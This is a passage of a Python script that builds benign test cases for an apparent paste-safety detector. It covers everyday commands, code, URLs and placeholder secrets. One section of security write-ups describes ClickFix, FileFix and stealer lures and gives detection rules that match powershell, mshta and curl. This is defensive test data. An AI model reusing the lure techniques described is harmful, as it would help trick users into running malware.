    "control /name Microsoft.ProgramsAndFeatures",
    "ms-settings:windowsupdate",
    "curl.exe -I https://www.microsoft.com",
    'curl -o nul -s -w "%{http_code}" https://intranet.contoso.com/login',
    "Start-Process powershell -Verb RunAs",
    "Get-AppxPackage *Microsoft.BingNews* | Remove-AppxPackage",
)
ben(
    "admin-command",
    "linux",
    "sudo systemctl restart nginx && systemctl status nginx --no-pager",
    'journalctl -u ssh --since "1 hour ago" --no-pager',
    "sudo ufw allow 22/tcp && sudo ufw enable",
    "df -h && du -sh /var/log/* | sort -h | tail -n 5",
    'find /var/log -name "*.gz" -mtime +30 -delete',
    "ps aux | grep [p]ython",
    "ss -tulpn | grep LISTEN",
    "sudo lsof -i :8080",
    "nc -zv db.internal 5432",
    "nc -l 9000 > received.tar",
    "chmod +x deploy.sh && ./deploy.sh staging",
    "chmod +x ./gradlew && ./gradlew build",
    "tar xzf node-v22.12.0-linux-x64.tar.gz -C /opt",
    "wget https://github.com/neovim/neovim/releases/download/v0.10.2/nvim-linux64.tar.gz && tar xzf nvim-linux64.tar.gz",
    "curl -LO https://github.com/derailed/k9s/releases/download/v0.32.7/k9s_Linux_amd64.tar.gz && tar -xzf k9s_Linux_amd64.tar.gz k9s && sudo mv k9s /usr/local/bin/",
    "sudo dpkg -i ./code_1.95.3-1731513102_amd64.deb",
    "sudo apt install ./google-chrome-stable_current_amd64.deb",
    "curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name",
    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
    'echo "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/ubuntu noble stable" | sudo tee /etc/apt/sources.list.d/docker.list > /dev/null',
    '(crontab -l 2>/dev/null; echo "0 3 * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1") | crontab -',
    "crontab -l",
    "echo 'export PATH=\"$HOME/.cargo/bin:$PATH\"' >> ~/.bashrc && source ~/.bashrc",
    'ssh-keygen -t ed25519 -C "jane@example.com"',
    "ssh -L 5432:localhost:5432 deploy@bastion.internal",
    "scp -r ./dist deploy@web01:/var/www/app",
    "rsync -avz --delete ./site/ user@web01:/srv/site/",
    "openssl s_client -connect example.com:443 -servername example.com </dev/null",
    "openssl req -new -newkey rsa:2048 -nodes -keyout server.key -out server.csr",
    "openssl rand -base64 32",
    "openssl enc -aes-256-cbc -salt -pbkdf2 -in secrets.txt -out secrets.txt.enc",
    "base64 -w0 logo.png > logo.b64",
    'echo -n "hello world" | base64',
    'base64 -d <<< "aGVsbG8gd29ybGQ="',
    "gzip -dc access.log.2.gz | grep ' 404 ' | wc -l",
    "sudo sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'",
    "watch -n 2 nvidia-smi",
    "sudo tcpdump -i eth0 port 53 -nn",
    "dig +short TXT example.com",
    "host -t mx example.org",
    "sudo certbot renew --dry-run",
    "ls -la /dev/shm",
    "cat /etc/os-release",
    "sudo useradd -m -s /bin/bash deploy && sudo usermod -aG docker deploy",
)
ben(
    "admin-command",
    "macos",
    "xattr -l ~/Downloads/Firefox.dmg",
    "xattr -cr /Applications/MyLocalBuild.app",
    "sudo softwareupdate -i -a",
    "defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder",
    "diskutil list",
    "spctl --status",
    "codesign -dv --verbose=4 /Applications/Safari.app",
    "mdfind \"kMDItemKind == 'PDF'\" -onlyin ~/Documents",
    'security find-certificate -a -c "Apple Root CA" -p > apple-root.pem',
    'osascript -e \'display notification "Build finished" with title "Xcode"\'',
    "osascript -e 'set volume output volume 30'",
    'osascript -e \'display dialog "Deploy to production?" buttons {"Cancel", "Deploy"} default button "Cancel"\'',
    "dscl . -list /Users | grep -v '^_'",
    "dscl . -read /Users/$USER RealName",
    "pbpaste | jq .",
    "sudo launchctl kickstart -k system/com.openssh.sshd",
    "pmset -g batt",
)

# =============================================================================================
# Benign: developer commands
# =============================================================================================

ben(
    "dev-command",
    "any",
    "python3 -m http.server 8000 --bind 127.0.0.1",
    'python3 -c "import sys; print(sys.version)"',
    'python -c "import secrets; print(secrets.token_urlsafe(32))"',
    'node -e "console.log(process.versions)"',
    "node -e \"console.log(require('crypto').randomBytes(32).toString('hex'))\"",
    "perl -pi -e 's/foo/bar/g' *.txt",
    "nohup python3 train.py --epochs 50 > train.log 2>&1 &",
    "curl -s https://pypi.org/pypi/requests/json | python3 -c \"import sys, json; print(json.load(sys.stdin)['info']['version'])\"",
    "curl -s https://api.github.com/repos/python/cpython | python3 -m json.tool",
    'docker run --rm -it -v "$PWD":/app -w /app node:22 npm test',
    "docker exec -it db psql -U postgres",
    "docker compose up -d --build",
    "docker build -t myapp:dev . && docker run -p 8080:8080 myapp:dev",
    "kubectl get pods -A -o wide",
    "kubectl exec -it deploy/api -- /bin/sh",
    "kubectl apply -f https://raw.githubusercontent.com/kubernetes/dashboard/v2.7.0/aio/deploy/recommended.yaml",
    "helm repo add bitnami https://charts.bitnami.com/bitnami && helm repo update",
    "git clone git@github.com:octo-org/octo-repo.git && cd octo-repo && git checkout -b feature/login",
    "git log --oneline --graph --decorate -20",
    "git rebase -i HEAD~3",
    'git config --global alias.lg "log --oneline --graph --decorate"',
    "git push --force-with-lease origin feature/login",
    'git stash push -m "wip" && git pull --rebase && git stash pop',
    "npm run build && npm test -- --watch=false",
    "npx create-next-app@latest my-app --typescript",
    "pnpm dlx prisma migrate dev --name init",
    "yarn add -D eslint prettier",
    'pip install --upgrade "fastapi[standard]"',
    "uvx ruff check . --fix",
    "pipx run cowsay moo",
    "deno run -A jsr:@std/http/file-server",
    "bun x cowsay hello",
    "make -j$(nproc)",
    "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release && cmake --build build",
    'sqlite3 app.db ".tables"',
    'psql -h localhost -U postgres -c "SELECT version();"',
    "terraform plan -out=tfplan",
    "ansible-playbook -i inventory/prod site.yml --check --diff",
    "ffmpeg -i talk.mov -c:v libx264 -preset slow -crf 22 -c:a aac talk.mp4",
    'eval "$(ssh-agent -s)" && ssh-add ~/.ssh/id_ed25519',
    'eval "$(zoxide init zsh)"',
    "source <(kubectl completion bash)",
    "./configure --prefix=/usr/local && make && sudo make install",
    "pytest -q -x --maxfail=1 tests/",
    "go test ./... -race -count=1",
    "cargo build --release && ./target/release/myapp --help",
    "gh pr checkout 1234 && gh pr diff",
    "code --install-extension ms-python.python",
    "mvn -q -DskipTests package",
    "ruby -e 'puts RUBY_VERSION'",
    "jq '.dependencies | keys' package.json",
    "rg -n \"TODO|FIXME\" --glob '!vendor'",
    "pre-commit run --all-files",
)
ben(
    "dev-command",
    "windows",
    "dotnet new console -n HelloWorld && cd HelloWorld && dotnet run",
    ".\\gradlew.bat assembleDebug",
    "py -3.12 -m venv .venv; .\\.venv\\Scripts\\Activate.ps1",
    "npm.cmd run dev",
)

# =============================================================================================
# Benign: code people paste
# =============================================================================================

ben(
    "code",
    "browser",
    "const [theme, setTheme] = useState(() => localStorage.getItem('theme') ?? 'light');\nuseEffect(() => {\n  localStorage.setItem('theme', theme);\n  document.documentElement.dataset.theme = theme;\n}, [theme]);",
    'function acceptCookies() {\n  document.cookie = "cookie_consent=accepted; max-age=" + 60 * 60 * 24 * 365 + "; path=/; SameSite=Lax";\n  document.getElementById("cookie-banner").hidden = true;\n}',
    "const res = await fetch('/api/session', { credentials: 'include' });\nif (!res.ok) throw new Error(`HTTP ${res.status}`);\nconst session = await res.json();",
    "api.interceptors.request.use((config) => {\n  const token = localStorage.getItem('access_token');\n  if (token) config.headers.Authorization = `Bearer ${token}`;\n  return config;\n});",
    "function parseJwt(token) {\n  const payload = token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/');\n  return JSON.parse(atob(payload));\n}",
    "const caesar = (s, k) => s.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + k) % 26 + 97));",
    "copyButton.addEventListener('click', async () => {\n  await navigator.clipboard.writeText(codeBlock.textContent);\n  copyButton.textContent = 'Copied!';\n});",
    "<!-- Google tag (gtag.js) -->\n<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-XXXXXXXXXX\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-XXXXXXXXXX');\n</script>",
    'Sentry.init({\n  dsn: "https://examplePublicKey@o0.ingest.sentry.io/0",\n  tracesSampleRate: 0.1,\n});',
    "self.addEventListener('fetch', (event) => {\n  event.respondWith(caches.match(event.request).then((r) => r || fetch(event.request)));\n});",
    "document.querySelectorAll('a[href^=\"http\"]').forEach(a => { a.target = '_blank'; a.rel = 'noopener'; });",
    "console.table(performance.getEntriesByType('resource').map(r => ({ name: r.name, ms: Math.round(r.duration) })))",
)
ben(
    "code",
    "any",
    'import requests\n\nresp = requests.get("https://api.github.com/repos/psf/requests", timeout=10)\nresp.raise_for_status()\nprint(resp.json()["stargazers_count"])',
    'import base64, json\n\nwith open("config.b64") as fh:\n    config = json.loads(base64.b64decode(fh.read()))',
    'import subprocess\n\nout = subprocess.run(["git", "status", "--porcelain"], capture_output=True, text=True, check=True)\nprint(out.stdout)',
    "SELECT c.name, COUNT(o.id) AS orders\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id\nWHERE o.created_at >= NOW() - INTERVAL '30 days'\nGROUP BY c.name\nORDER BY orders DESC\nLIMIT 10;",
    "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: oven-sh/setup-bun@v2\n      - run: bun install && bun test",
    'FROM python:3.12-slim\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\nWORKDIR /app\nRUN /root/.local/bin/uv sync --frozen\nCMD ["/root/.local/bin/uv", "run", "app.py"]',
    "FROM node:22-bookworm\nRUN corepack enable pnpm\nWORKDIR /srv\nCOPY package.json pnpm-lock.yaml ./\nRUN pnpm install --frozen-lockfile",
    'function Get-LatestRelease {\n    param([string]$Repo)\n    $r = Invoke-RestMethod -Uri "https://api.github.com/repos/$Repo/releases/latest"\n    return $r.tag_name\n}',
    'using var client = new HttpClient();\nvar json = await client.GetStringAsync("https://api.example.com/v1/status");\nvar status = JsonSerializer.Deserialize<Status>(json);',
    'resp, err := http.Get("https://api.example.com/health")\nif err != nil {\n    log.Fatal(err)\n}\ndefer resp.Body.Close()',
    'let body = reqwest::blocking::get("https://www.rust-lang.org")?.text()?;\nprintln!("{} bytes", body.len());',
    '#!/usr/bin/env bash\nset -euo pipefail\nfor f in ./migrations/*.sql; do\n  psql "$DATABASE_URL" -f "$f"\ndone',
    "const { execFile } = require('node:child_process');\nexecFile('git', ['rev-parse', 'HEAD'], (err, stdout) => console.log(stdout.trim()));",
    '[tool.ruff]\nline-length = 100\ntarget-version = "py311"\n\n[tool.pytest.ini_options]\naddopts = "-ra"',
    '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "module": "NodeNext",\n    "strict": true,\n    "outDir": "dist"\n  }\n}',
    "build:\n\tgo build -o bin/app ./cmd/app\n\ntest:\n\tgo test ./...",
    "Use the regex `^\\d{3}-\\d{4}$` to match local numbers, and `^(?:[a-z0-9-]+\\.)+[a-z]{2,}$` for hostnames. In Markdown, wrap it in backticks: `` `^foo$` ``.",
    "## Setup\n\n```bash\npython -m venv .venv\nsource .venv/bin/activate\npip install -e '.[test]'\npytest -q\n```\n\nThen open `http://localhost:8000`.",
    "$env:Path += \";C:\\Tools\\bin\"\n[Environment]::SetEnvironmentVariable('Path', $env:Path, 'User')",
    "$creds = Get-Credential\nInvoke-Command -ComputerName SRV01, SRV02 -Credential $creds -ScriptBlock { Get-Service W32Time }",
)

# =============================================================================================
# Benign: prose and security write-ups that mention attacks without a runnable payload
# =============================================================================================

ben(
    "prose",
    "any",
    "Can you run npm install again? The lockfile changed after the merge.",
    "I pushed the fix to main, CI is green now. Deploying after lunch.",
    "Reminder: quarterly planning is on Thursday at 10:00 in room 4B. Please bring your roadmap slides.",
    "To free up space, press Win+R, type %temp% and delete the files in that folder. Some files may be in use; skip those.",
    "To clear the DNS cache on Windows, open Command Prompt as administrator and run ipconfig /flushdns, then restart the browser.",
    "lol the captcha made me click 'I am not a robot' five times before it let me buy the tickets",
    "Preheat the oven to 200\u00b0C. Mix 250 g flour, 2 eggs and 300 ml milk, rest for 30 minutes, then bake for 25 minutes.",
    "The contractor will come on Monday between 8 and 10 to fix the heating. Please leave the side door unlocked.",
    "If PowerShell says scripts are disabled, run Set-ExecutionPolicy RemoteSigned -Scope CurrentUser once and try again.",
    "Open Terminal (Cmd+Space, type Terminal) and run brew update to refresh the formula list.",
    "Flight LH 401 is delayed to 18:45. Gate changed to Z52. Boarding starts 40 minutes before departure.",
    "Please verify your email address by clicking the link we sent you. The link expires in 24 hours.",
    "Thanks for the review! I addressed your comments: renamed the helper, added tests for the empty case, and removed the debug print.",
    "The new office Wi-Fi is Contoso-Guest, password is on the whiteboard in the kitchen.",
    "I think the bug is in the date parser: it assumes MM/DD but the CSV export uses DD.MM.YYYY.",
    "Happy birthday Anna! \U0001f382 Cake in the break room at 3.",
    "Could someone with admin rights approve my access request for the finance SharePoint?",
    "Our on-call rotation changes next week: Priya takes Monday to Wednesday, Tom the rest.",
    "The build fails on Windows only because the path contains a space; quoting $env:TEMP in the script fixed it.",
    "We recommend updating to version 3.2.1, which fixes a crash when opening large PDF files.",
)
ben(
    "security-writeup",
    "any",
    'ClickFix pages show a fake reCAPTCHA and tell the visitor to press Win+R, then Ctrl+V, then Enter. The clipboard already holds a PowerShell command, usually with flags such as -w hidden and -ep bypass, and the text ends with a comment like "I am not a robot - Verification ID" so that only the harmless-looking part is visible in the Run box.',
    'In FileFix, the attacker asks the victim to paste a "file path" into File Explorer\'s address bar. The path is really a PowerShell command followed by many spaces and a comment that contains a fake path, so the address bar only shows something like C:\\company\\HR\\Policy.docx.',
    "Analyst note 2025-11-04: WS-0231 RunMRU shows mshta launched against a look-alike domain (hxxps://captcha-check[.]example). User reported a 'Cloudflare verification' page. Host isolated, credentials reset, ticket INC-48213.",
    "title: Suspicious RunMRU Entry With Captcha Lure\nlogsource:\n  product: windows\n  category: registry_set\ndetection:\n  selection:\n    TargetObject|contains: '\\Explorer\\RunMRU\\'\n    Details|contains|all:\n      - '#'\n      - 'captcha'\n  condition: selection\nlevel: high",
    'DeviceRegistryEvents\n| where RegistryKey has "RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "msiexec")\n| where RegistryValueData has "#"\n| project Timestamp, DeviceName, RegistryValueData',
    'rule ClickFix_Lure_Text {\n  strings:\n    $a = "I am not a robot" nocase\n    $b = "Verification ID" nocase\n    $c = "-w hidden" nocase\n  condition:\n    2 of them\n}',
    "Security awareness: never paste anything into Win+R, the Windows Terminal or the macOS Terminal because a website asked you to. If a page says 'press Windows+R and paste', close it and call the IT desk on ext. 4400.",
    "The AMOS stealer variant asks for the user's password with an AppleScript dialog that uses a hidden answer field, checks it with dscl . -authonly, and then reads the browser and keychain data.",
    "Discord warning: never paste anything into the DevTools console. Scammers ask you to paste code that reads your token from webpackChunkdiscord_app and sends it to them, which gives them full access to your account.",
    "IOCs (defanged): hxxps://update-check[.]invalid/gate.ps1, hxxp://198.51.100[.]23/fix.hta, SHA-256 3f79bb7b435b05321651daefd374cdc681dc06faa65e374e38337b88ca046dea",
    "Microsoft will never show error messages with a phone number on a web page or call you unsolicited about a virus. Such pop-ups are tech support scams; close the browser and do not call the number.",
    "ConsentFix abuses the Azure CLI OAuth flow: the victim signs in and is told to copy the localhost URL from the address bar back into the page, which hands the attacker the authorization code.",
    "Huntress observed the lures switching from mshta to finger.exe and nslookup for staging, which evades rules that only look for PowerShell in RunMRU.",
    'index=wineventlog EventCode=4688 New_Process_Name="*\\\\mshta.exe" Process_Command_Line="*http*" | stats count by host, Process_Command_Line',
    "Why does this work? The Run dialog shows only the first part of a long line, and cmd treats everything after REM as a comment, so the victim sees the verification text and not the download.",
)

# =============================================================================================
# Benign: URLs, paths, secret-looking strings
# =============================================================================================


def _png_1x1() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + bytes([0x33, 0x99, 0xFF] * 2) for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib_bytes(raw))
        + chunk(b"IEND", b"")
    )


_PNG_B64 = base64.b64encode(_png_1x1()).decode()

ben(
    "url",
    "any",
    f"https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id={_uuid('app-ms')}&response_type=code&redirect_uri=https%3A%2F%2Fapp.contoso.com%2Fauth%2Fcallback&response_mode=query&scope=openid%20profile%20offline_access&state={token('msst', 24, _b64c)}",
    f"https://accounts.google.com/o/oauth2/v2/auth?client_id=1234567890-{token('gcid', 32, 'abcdefghijklmnopqrstuvwxyz0123456789')}.apps.googleusercontent.com&redirect_uri=https://www.example.com/oauth2callback&response_type=code&scope=openid%20email&access_type=offline",
    f"https://github.com/login/oauth/authorize?client_id=Iv1.{token('ghid', 16, '0123456789abcdef')}&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=repo%20read%3Aorg&state={token('ghst', 20, _b64c)}",
    "https://github.com/login/device",
    "https://microsoft.com/devicelogin",
    "https://www.example.com/products/widget-pro?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2025&utm_content=hero_button",
    f"https://shop.example.org/checkout?ref=ad&gclid={token('gclid', 90, _b64c)}&fbclid=IwAR{token('fbclid', 60, _b64c)}",
    "https://www.google.com/maps/place/Brandenburger+Tor/@52.5162746,13.3755154,17z",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjQ2ZDA5%40thread.v2/0?context=%7b%22Tid%22%3a%22"
    + _uuid("tid")
    + "%22%7d",
    "https://contoso.sharepoint.com/:x:/r/sites/Finance/Shared%20Documents/Budget%202025.xlsx?d=w1a2b3c4d&csf=1&web=1",
    f"data:image/png;base64,{_PNG_B64}",
    "http://localhost:3000/dashboard?tab=settings&debug=1",
    f"http://127.0.0.1:8888/lab?token={token('jupyter', 48, '0123456789abcdef')}",
    "https://raw.githubusercontent.com/torvalds/linux/master/README",
    "https://pastebin.com/u7Fg2kLm",
    "https://cdn.discordapp.com/attachments/1101234567890123456/1109876543210987654/screenshot.png",
    "https://calm-river-demo.trycloudflare.com/",
    "mailto:support@example.com?subject=Order%20123&body=Hi%20team",
    "https://example.com/search?q=how+to+remove+%22I+am+not+a+robot%22+loop",
    "https://docs.python.org/3/library/base64.html#base64.b64decode",
    "https://zoom.us/j/95512345678?pwd=cXJ4dDV2bTRsN0xaQ2pwbjBvTEo2QT09",
    "https://en.wikipedia.org/wiki/ClickFix",
    "https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams-2ebf91bd-f94c-2a8a-e541-f5c800d18435",
)
ben(
    "path",
    "any",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Users\\jdoe\\Documents\\Invoices\\2025\\INV-0042.pdf",
    "\\\\fileserver\\finance\\Q3\\Budget.xlsx",
    "%USERPROFILE%\\AppData\\Local\\Temp",
    "/Users/jane/Library/Application Support/Code/User/settings.json",
    "~/.ssh/config",
    "/etc/nginx/sites-available/default",
    "D:\\Projects\\pasteguard\\tests\\data",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    '"C:\\Program Files (x86)\\Steam\\steamapps\\common"',
    "/mnt/c/Users/jdoe/Downloads",
    "file:///home/user/reports/2025-q1.html",
    "C:\\company\\internal-secure\\filedrive\\HRPolicy.docx",
    "/var/log/nginx/access.log.1",
)


def _ssh_pub(seed: str) -> str:
    key = hashlib.sha256(seed.encode()).digest()
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + key
    return "ssh-ed25519 " + base64.b64encode(blob).decode() + " jane@laptop"


def _jwt(payload: dict[str, object]) -> str:
    header = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(",", ":")).encode())
    body = b64url(json.dumps(payload, separators=(",", ":")).encode())
    sig = hmac.new(b"test-secret", f"{header}.{body}".encode(), hashlib.sha256).digest()
    return f"{header}.{body}.{b64url(sig)}"


ben(
    "secret-like",
    "any",
    hashlib.md5(b"pasteguard md5 sample").hexdigest(),
    hashlib.sha1(b"pasteguard sha1 sample").hexdigest(),
    hashlib.sha256(b"pasteguard sha256 sample").hexdigest(),
    hashlib.sha512(b"pasteguard sha512 sample").hexdigest(),
    "commit " + hashlib.sha1(b"git commit sample").hexdigest(),
    hashlib.sha1(b"short").hexdigest()[:7],
    _jwt({"sub": "42", "name": "Ada Lovelace", "role": "viewer", "iat": 1735689600}),
    "AKIAIOSFODNN7EXAMPLE",
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    _uuid("uuid-1"),
    _ssh_pub("ssh-key-seed"),
    "-----BEGIN PUBLIC KEY-----\n"
    + base64.b64encode(hashlib.sha512(b"pub1").digest() + hashlib.sha256(b"pub2").digest()).decode()
    + "\n-----END PUBLIC KEY-----",
    _PNG_B64,
    b64("Hello from the team! The meeting moved to 3pm, see you there."),
    b64('{"user":"jdoe","theme":"dark","lang":"en-GB"}'),
    "k7#Qm!2vZp@9Lx$w",
    "JBSWY3DPEHPK3PXP",
    "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    "DE89 3704 0044 0532 0130 00",
    "4111 1111 1111 1111",
    token("api-key-like", 40, "abcdef0123456789"),
    "sha256:" + hashlib.sha256(b"docker layer").hexdigest(),
    "https://x-access-token:${GITHUB_TOKEN}@github.com/octo-org/octo-repo.git",
)

# =============================================================================================
# Benign: other everyday text (non-Latin scripts, emoji, signatures, support mail, logs)
# =============================================================================================

ben(
    "other",
    "any",
    "Привет! Скинь, пожалуйста, отчёт по продажам за март до пятницы.",
    "Обновите Windows до последней версии и перезагрузите компьютер, затем откройте PowerShell и проверьте версию.",
    "Καλημέρα σε όλους! Η συνάντηση μεταφέρθηκε για την Τρίτη στις 10:00.",
    "ΑΘΗΝΑ – ΚΕΝΤΡΟ ΕΞΥΠΗΡΕΤΗΣΗΣ ΠΕΛΑΤΩΝ",
    "请在周五之前把项目报告发给我，谢谢！",
    "明日の会議は10時からです。資料を準備しておいてください。",
    "مرحبا، هل يمكنك إرسال الملف قبل نهاية اليوم؟",
    "שלום, הפגישה נדחתה ליום ראשון בשעה עשר.",
    "안녕하세요! 내일 회의는 오후 2시입니다.",
    "नमस्ते, कृपया कल तक रिपोर्ट भेज दें।",
    "Доброго ранку! Зустріч перенесли на середу, посилання в Teams.",
    "Здраво, видимо се сутра у канцеларији.",
    "Deployed to prod \u2705\u2705 thanks team \U0001f389",
    "Tests pass \u2705 Lint \u2705 Ready for review \U0001f440",
    "\u2705 Verified email\n\u2705 Set up 2FA\n\u2b1c Add recovery codes",
    "Best regards,\nMaria Garcia\nCustomer Success Manager | Contoso Ltd.\nTel: +1 (206) 555-0142 | maria.garcia@contoso.com",
    "Thanks for contacting Microsoft Support. Your case number is 2412190040001234. A support engineer will email you within one business day; you can also check the status at https://support.microsoft.com.",
    "Apple Support: your repair (ID R123456789) is complete and ready for pickup. Questions? Call us at 1-800-555-0177, Monday to Friday 8am-8pm.",
    "Your Amazon order #112-4567890-1234567 has shipped and will arrive Tuesday. Track your package in Your Orders.",
    '127.0.0.1 - - [12/Mar/2025:10:15:32 +0000] "GET /install.sh HTTP/1.1" 200 4521 "-" "curl/8.5.0"',
    'Traceback (most recent call last):\n  File "app.py", line 12, in <module>\n    main()\n  File "app.py", line 8, in main\n    raise ValueError("invalid config")\nValueError: invalid config',
    "The application was unable to start correctly (0xc000007b). Click OK to close the application.",
    "diff --git a/app.py b/app.py\n@@ -1,3 +1,3 @@\n-DEBUG = True\n+DEBUG = False\n import os",
    "Name,Email,Phone\nAda Lovelace,ada@example.com,+44 20 7946 0958\nAlan Turing,alan@example.org,+44 161 496 0123",
    "BEGIN:VEVENT\nSUMMARY:Sprint review\nDTSTART:20250314T140000Z\nDTEND:20250314T150000Z\nLOCATION:Room 4B\nEND:VEVENT",
    "221B Baker Street, London NW1 6XE, United Kingdom",
    "Milk, eggs, 2x bread, coffee beans, bananas, dish soap",
    "Human resources will verify your documents on your first day; bring your passport and bank details.",
    "Windows Security: Virus & threat protection is on. No current threats. Last scan: 3/12/2025 9:14 AM (quick scan).",
    "Your verification code is 483920. It expires in 10 minutes. Do not share this code with anyone.",
)


# =============================================================================================
# Checks and output
# =============================================================================================


def _escape_invisible(line: str) -> str:
    """Writes invisible characters (format, space, separator) as \\u escapes so they show in the file."""
    out = []
    for ch in line:
        cat = unicodedata.category(ch)
        if ch != " " and cat in {"Cf", "Zs", "Zl", "Zp", "Cc", "Co", "Cn"}:
            code = ord(ch)
            if code > 0xFFFF:
                code -= 0x10000
                out.append(f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}")
            else:
                out.append(f"\\u{code:04x}")
        else:
            out.append(ch)
    return "".join(out)


def render(cases: list[dict[str, str]]) -> str:
    return "".join(_escape_invisible(json.dumps(c, ensure_ascii=False)) + "\n" for c in cases)


def _corpus_texts() -> set[str]:
    texts: set[str] = set()
    for path in sorted(CORPUS_DIR.glob("*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if line.strip():
                texts.add(json.loads(line)["text"])
    return texts


def validate() -> None:
    ids = [c["id"] for c in MALICIOUS + BENIGN]
    dupes = [i for i, n in Counter(ids).items() if n > 1]
    assert not dupes, f"duplicate ids: {dupes}"
    texts = [c["text"] for c in MALICIOUS + BENIGN]
    same = [t for t, n in Counter(texts).items() if n > 1]
    assert not same, f"duplicate texts: {same}"
    for case in MALICIOUS + BENIGN:
        size = len(case["text"].encode())
        assert 0 < size < MAX_TEXT_BYTES, (case["id"], size)
    if CORPUS_DIR.is_dir():
        overlap = sorted(c["id"] for c in MALICIOUS + BENIGN if c["text"] in _corpus_texts())
        assert not overlap, f"identical to a dev-corpus text: {overlap}"
    else:
        print(
            f"warning: {CORPUS_DIR} not found; overlap with the dev corpus not checked",
            file=sys.stderr,
        )


def main(argv: list[str]) -> int:
    validate()
    outputs = {MALICIOUS_FILE: render(MALICIOUS), BENIGN_FILE: render(BENIGN)}
    if "--check" in argv:
        stale = [
            p.name
            for p, text in outputs.items()
            if not p.exists() or p.read_text(encoding="utf-8") != text
        ]
        if stale:
            print(f"out of date: {', '.join(stale)}; run {Path(__file__).name}", file=sys.stderr)
            return 1
        print("up to date")
        return 0
    for path, text in outputs.items():
        path.write_text(text, encoding="utf-8", newline="\n")
    print(f"{len(MALICIOUS)} malicious cases -> {MALICIOUS_FILE.name}")
    print(f"{len(BENIGN)} benign cases -> {BENIGN_FILE.name}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
